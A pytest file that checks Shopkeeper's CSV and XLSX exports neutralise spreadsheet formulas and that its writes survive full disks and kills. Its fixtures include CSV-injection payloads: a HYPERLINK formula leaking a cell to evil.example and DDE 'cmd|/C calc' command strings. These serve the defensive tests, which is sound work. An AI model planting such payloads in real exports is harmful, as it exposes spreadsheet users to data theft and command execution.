"""Files Shopkeeper writes (issue 15): formula-safe rejected rows, all-or-nothing writes that survive a full disk
or a kill, e-mails starting with + or - kept intact, and plain sentences for every write failure."""

from __future__ import annotations

import csv
import errno
import io
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import core.atomic
from core.__main__ import main
from core.atomic import WriteFailed, atomic_write
from core.errors import Cancelled, ShopkeeperError
from core.exports import neutralise_cell, write_safe_csv
from core.importers.pipeline import import_file
from core.report import ReportFailed, write_report

ROOT = Path(__file__).resolve().parents[2]


class _FullDisk:
    """A file that accepts ``room`` bytes, then fails every write with ENOSPC like a full disk."""

    def __init__(self, handle, room: int):
        self.handle, self.room = handle, room

    def write(self, data):
        size = len(data.encode("utf-8") if isinstance(data, str) else data)
        if size > self.room:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.room -= size
        return self.handle.write(data)

    def __getattr__(self, name):
        return getattr(self.handle, name)


@pytest.fixture
def full_disk(monkeypatch):
    """Make every file Shopkeeper writes through core.atomic run out of space after 100 bytes."""
    real = core.atomic.open_temp

    def opener(folder, name, binary, encoding, newline):
        handle, temp = real(folder, name, binary, encoding, newline)
        return _FullDisk(handle, 100), temp
    monkeypatch.setattr(core.atomic, "open_temp", opener)


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# ---- the rejected-rows CSV is formula-safe ------------------------------------------------------------------

def test_rejected_rows_csv_neutralises_formulas(fresh_db, tmp_path):
    source = tmp_path / "orders.csv"
    rows = [["Invoice", "StockCode", "Description", "Quantity", "InvoiceDate", "Price", "Customer ID", "Country"],
            ["1", "A", "Mug", "1", "2024-01-05 10:00:00", "2.50", "7", "UK"],
            ["2", "B", '=HYPERLINK("http://evil.example/?"&A1,"click")', "1", "2024-01-05 10:00:00", "oops", "7", "UK"],
            ["3", "C", "+cmd|' /C calc'!A0", "1", "2024-01-05 10:00:00", "n/a", "8", "UK"],
            ["4", "D", "-5", "1", "2024-01-05 10:00:00", "x", "9", "@SUM(1+1)"]]
    with open(source, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    rejected = tmp_path / "rejected.csv"
    result = import_file(fresh_db, source, rejected_csv=rejected)
    assert result.rows_skipped == 3
    cells = [cell for row in csv.reader(io.StringIO(rejected.read_text(encoding="utf-8-sig"))) for cell in row]
    live = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-5")]
    assert live == []
    assert "'" + rows[2][2] in cells and "'" + rows[3][2] in cells and "'@SUM(1+1)" in cells
    assert "-5" in cells  # a plain number is not a formula: left as it is


# ---- e-mails that start with + or - -------------------------------------------------------------------------

@pytest.mark.parametrize("text, kept", [
    ("+jane@x.com", True), ("-orders@shop.example.pl", True), ("jane+news@x.com", True), ("-5", True),
    ("+3.20", True), ("=1+1", False), ("-cmd|'/C calc'!A0@x.com", False), ("+HYPERLINK(\"a\")@x.com", False),
    ("@x.com", False), ("-jane@x", False), ("\t+jane@x.com", False),
])
def test_which_cells_keep_their_first_character(text, kept):
    assert (neutralise_cell(text) == text) is kept


def test_plus_and_minus_emails_survive_csv_and_xlsx(tmp_path):
    from core.offers.campaign import write_xlsx

    frame = pd.DataFrame({"Email": ["+jane@x.com", "-bob@shop.example.pl", "ola@x.pl"],
                          "Note": ["=HYPERLINK(\"http://e\")", "ok", "-2+3+cmd|' /C calc'!A0"]})
    out = write_safe_csv(frame, tmp_path / "mailchimp.csv", encoding="utf-8")
    text = out.read_text(encoding="utf-8")
    assert '"+jane@x.com"' in text and '"-bob@shop.example.pl"' in text  # kept, and quoted
    back = pd.read_csv(out, dtype=str)
    assert back["Email"].tolist() == frame["Email"].tolist()
    assert back["Note"].tolist() == ["'" + frame["Note"][0], "ok", "'" + frame["Note"][2]]
    book = openpyxl.load_workbook(write_xlsx(frame, tmp_path / "offer.xlsx"))
    sheet = book.active
    assert [sheet.cell(row=r, column=1).value for r in (2, 3, 4)] == frame["Email"].tolist()
    assert sheet.cell(row=2, column=2).data_type == "s"


# ---- all-or-nothing writes ---------------------------------------------------------------------------------

def test_full_disk_keeps_the_earlier_csv_and_says_so(tmp_path, full_disk):
    out = tmp_path / "customers.csv"
    out.write_bytes(b"earlier,good\n1,2\n")
    big = pd.DataFrame({"name": [f"customer {i}" for i in range(2000)]})
    with pytest.raises(WriteFailed) as info:
        write_safe_csv(big, out)
    assert "disk is full" in str(info.value) and "\n" not in str(info.value)
    assert out.read_bytes() == b"earlier,good\n1,2\n"
    assert _leftovers(tmp_path) == []


def test_a_failure_inside_the_block_keeps_the_earlier_file(tmp_path):
    out = tmp_path / "snippet.html"
    out.write_text("good", encoding="utf-8")
    with pytest.raises(RuntimeError):
        with atomic_write(out, "w") as handle:
            handle.write("half")
            raise RuntimeError("killed half-way")
    assert out.read_text(encoding="utf-8") == "good"
    assert _leftovers(tmp_path) == []
    with atomic_write(out, "w") as handle:
        handle.write("new")
    assert out.read_text(encoding="utf-8") == "new"


def test_report_on_a_full_disk_is_one_sentence_and_keeps_the_earlier_report(demo_db, tmp_path, monkeypatch):
    out = tmp_path / "report.pdf"
    write_report(demo_db, out, shop_name="Demo")
    good = out.read_bytes()
    real = core.atomic.open_temp
    monkeypatch.setattr(core.atomic, "open_temp", lambda *a: (lambda h, t: (_FullDisk(h, 50_000), t))(*real(*a)))
    with pytest.raises(ReportFailed) as info:
        write_report(demo_db, out, shop_name="Demo")
    message = str(info.value)
    assert "disk is full" in message and "Error -2" not in message and "\n" not in message
    assert out.read_bytes() == good
    assert _leftovers(tmp_path) == []


def test_cancelled_report_keeps_the_earlier_report(demo_db, tmp_path):
    out = tmp_path / "report.pdf"
    write_report(demo_db, out, shop_name="Demo")
    good = out.read_bytes()
    calls = []
    with pytest.raises(Cancelled):
        write_report(demo_db, out, shop_name="Demo", cancelled=lambda: calls.append(1) or len(calls) > 3)
    assert out.read_bytes() == good


def test_snippet_and_export_on_a_full_disk_say_so_plainly(demo_db_path, tmp_path, full_disk, capsys):
    snippet = tmp_path / "widget.html"
    snippet.write_text("earlier widget", encoding="utf-8")
    code = main(["snippet", "--db", str(demo_db_path), "--kind", "bestsellers", "--out", str(snippet)])
    err = capsys.readouterr().err
    assert code == 1 and "disk is full" in err and "something went wrong" not in err
    assert snippet.read_text(encoding="utf-8") == "earlier widget"
    offer = tmp_path / "offer.csv"
    offer.write_text("earlier offer", encoding="utf-8")
    code = main(["export", "--db", str(demo_db_path), "--audience", "segment:champions", "--target", "csv",
                 "--out", str(offer), "--no-record", "--include-unconsented"])
    err = capsys.readouterr().err
    assert code == 1 and "disk is full" in err and "something went wrong" not in err, err
    assert offer.read_text(encoding="utf-8") == "earlier offer"
    assert _leftovers(tmp_path) == []


def test_write_into_a_missing_folder_creates_it_and_an_unwritable_one_is_a_sentence(tmp_path):
    write_safe_csv(pd.DataFrame({"a": [1]}), tmp_path / "new" / "deeper" / "x.csv")
    assert (tmp_path / "new" / "deeper" / "x.csv").exists()
    with pytest.raises(ShopkeeperError) as info:
        write_safe_csv(pd.DataFrame({"a": [1]}), Path("/proc/shopkeeper-no-such/x.csv"))
    assert "\n" not in str(info.value) and "x.csv" in str(info.value)


@pytest.mark.slow
def test_killed_report_runs_never_break_the_earlier_report(demo_db_path, tmp_path):
    """Kill ``python -m core report`` at random moments; the earlier report must stay whole every time."""
    out = tmp_path / "report.pdf"
    command = [sys.executable, "-m", "core", "report", "--db", str(demo_db_path), "--out", str(out)]
    started = time.monotonic()
    subprocess.run(command, check=True, capture_output=True, cwd=ROOT)
    full_run = time.monotonic() - started
    good = out.read_bytes()
    assert good.startswith(b"%PDF-") and good.rstrip().endswith(b"%%EOF")
    rng = random.Random(15)
    replaced = 0
    for _trial in range(8):
        process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(0.2, 0.95) * full_run)
        process.send_signal(signal.SIGKILL)
        process.wait()
        now = out.read_bytes()
        if now != good:  # the run finished before the kill: then it must be a whole new report
            assert now.startswith(b"%PDF-") and now.rstrip().endswith(b"%%EOF")
            good = now
            replaced += 1
    assert replaced < 8  # most kills landed part-way, which is what this test is about
    for leftover in tmp_path.glob(".report.pdf.*.tmp"):
        leftover.unlink()  # a hard kill cannot clean up its temporary file; the report itself is intact
